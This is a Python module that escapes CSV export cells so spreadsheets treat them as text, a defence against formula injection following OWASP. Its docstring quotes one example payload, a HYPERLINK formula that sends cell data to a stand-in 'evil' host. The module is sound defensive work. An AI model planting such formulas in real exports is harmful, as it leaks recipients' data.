"""CSV we hand to people: cells a spreadsheet would run as a formula are made inert.

Finance opens our exports in Excel, LibreOffice or Google Sheets, which evaluate a cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return — so an ad account named
``=HYPERLINK("http://evil/?"&A1)`` would run on their machine. As OWASP recommends, such a text
cell is prefixed with a single quote, which the spreadsheet shows as text. Money is written
by the caller as a plain number (``Money``): ``-12.50`` must stay a number a sum can use, so
only text goes through :func:`text_cell`.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_MEDIA_TYPE = "text/csv"


class Money(Decimal):
    """A numeric cell: written as it is (``-12.50``), never escaped."""


Cell = str | Money | None


def text_cell(value: str) -> str:
    """``value`` as a spreadsheet shows it: a leading formula character is neutralised."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def render(header: Iterable[str], rows: Iterable[Iterable[Cell]]) -> str:
    """A CSV document: text cells escaped, Money cells as plain decimals, None empty.

    Lines end in ``\n``; a cell holding a comma, a quote or a line break (``\r`` too, which
    :mod:`csv` leaves bare when lines end in ``\n``) is quoted, so every row reads back whole.
    """
    lines = [",".join(_quoted(text_cell(h)) for h in header)]
    for row in rows:
        lines.append(",".join("" if c is None else format(c, "f") if isinstance(c, Money)
                              else _quoted(text_cell(c)) for c in row))
    return "\n".join(lines) + "\n"


def _quoted(text: str) -> str:
    if any(ch in text for ch in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


def attachment(stem: str) -> dict[str, str]:
    """The ``Content-Disposition`` header of a download named after ``stem`` (reduced to
    characters every browser and shell accepts)."""
    safe = re.sub(r"[^A-Za-z0-9._-]+", "-", stem).strip("-.") or "export"
    return {"Content-Disposition": f'attachment; filename="{safe[:120]}.csv"'}
